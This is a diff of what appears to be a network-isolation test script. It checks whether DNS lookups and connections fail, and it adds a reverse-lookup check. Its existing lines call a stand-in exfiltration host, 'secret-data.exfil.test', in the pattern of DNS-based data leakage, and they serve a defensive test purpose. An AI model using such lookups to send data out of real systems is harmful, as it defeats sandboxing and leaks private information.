@@ -6,3 +6,4 @@ attempt("getaddrinfo", lambda: socket.getaddrinfo("secret-data.exfil.test", 80, 
 attempt("gethostbyname", lambda: socket.gethostbyname("secret-data.exfil.test"))
 attempt("connect by name", lambda: socket.create_connection(("secret-data.exfil.test", 9), timeout=1))
 attempt("hosts file", lambda: socket.gethostbyname("localhost"))
+attempt("gethostbyaddr", lambda: socket.gethostbyaddr("10.9.8.7"))
